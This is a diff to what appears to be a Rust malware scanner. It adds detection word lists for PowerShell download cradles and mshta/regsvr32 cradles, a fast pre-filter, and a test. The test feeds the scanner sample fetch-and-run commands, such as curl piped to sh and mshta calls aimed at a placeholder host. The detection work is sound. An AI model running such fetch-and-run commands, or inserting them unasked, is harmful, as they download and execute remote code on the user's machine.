@@ -488,7 +488,36 @@ fn download_and_run(text: &str, reach: Reach) -> Option<Signal> {
         "chmod 777",
         "start-sleep",
     ];
+    // The fetches of a PowerShell download cradle, and commands that fetch and run by
+    // themselves.
+    const POWERSHELL_FETCH: &[&str] = &[
+        "downloadstring",
+        "downloadfile",
+        "invoke-webrequest",
+        "iwr ",
+    ];
+    const CRADLES: &[&str] = &["mshta http", "regsvr32 /s /n /u /i:http"];
+    // A line can only give this signal with one of these words in it: one pass over the
+    // whole text finds the lines worth lowering and searching (most files have none).
+    static STARTERS: OnceLock<AhoCorasick> = OnceLock::new();
+    let starters = STARTERS.get_or_init(|| {
+        AhoCorasickBuilder::new()
+            .ascii_case_insensitive(true)
+            .build(FETCH.iter().chain(POWERSHELL_FETCH).chain(CRADLES))
+            .expect("the constant download words build")
+    });
+    let mut starts = starters
+        .find_iter(text)
+        .map(|found| found.start())
+        .peekable();
     for (index, line) in text.lines().enumerate() {
+        let line_start = line.as_ptr() as usize - text.as_ptr() as usize;
+        while starts.next_if(|at| *at < line_start).is_some() {}
+        match starts.peek() {
+            None => return None,
+            Some(at) if *at >= line_start + line.len() => continue,
+            Some(_) => {}
+        }
         // Long lines are mostly data (keyword lists of lexers, minified bundles): in them
         // only a fetch of a URL and a run close behind it count.
         if line.len() > 400 {
@@ -511,14 +540,7 @@ fn download_and_run(text: &str, reach: Reach) -> Option<Signal> {
             .map(|(f, _)| f);
         // A cradle names a source (a URL, a variable) or joins the two with a pipe or a
         // call; PowerShell's aliases in a word list (a lexer's keywords) do neither.
-        let cradle_fetch = [
-            "downloadstring",
-            "downloadfile",
-            "invoke-webrequest",
-            "iwr ",
-        ]
-        .iter()
-        .find_map(|f| lower.find(f));
+        let cradle_fetch = POWERSHELL_FETCH.iter().find_map(|f| lower.find(f));
         let cradle_run = ["iex", "invoke-expression", "start-process"]
             .iter()
             .find_map(|r| lower.find(r));
@@ -532,9 +554,7 @@ fn download_and_run(text: &str, reach: Reach) -> Option<Signal> {
             }
             _ => false,
         };
-        let cradle = powershell_cradle
-            || lower.contains("mshta http")
-            || lower.contains("regsvr32 /s /n /u /i:http");
+        let cradle = powershell_cradle || CRADLES.iter().any(|c| lower.contains(c));
         if let (Some(fetch), Some(run)) = (fetch, run) {
             return Some(Signal::new(
                 SignalKind::DownloadRun,
@@ -721,6 +741,22 @@ mod tests {
         );
         assert!(found.contains(&SignalKind::CredentialStore));
         assert!(found.contains(&SignalKind::ExfilEndpoint));
+    }
+
+    #[test]
+    fn download_and_run_is_found_at_its_line_among_others() {
+        // Mixed case and CRLF line ends: the pre-filter must find what the lowered line
+        // search finds, at the same line.
+        let text = "import os\r\n# fetch later\r\nx = 1\r\nos.system('CURL -s http://x.example/i | SH')\r\n";
+        let signals = scan(text, Reach::Always);
+        let found = signals
+            .iter()
+            .find(|s| s.kind == SignalKind::DownloadRun)
+            .expect("download-run");
+        assert_eq!(found.line, 4);
+        // The fetch and the run on different lines are not one download-and-run.
+        assert!(!kinds("curl http://x.example/i\n| sh\n").contains(&SignalKind::DownloadRun));
+        assert!(kinds("x = 1\nmshta http://x.example/a.hta\n").contains(&SignalKind::DownloadRun));
     }
 
     #[test]
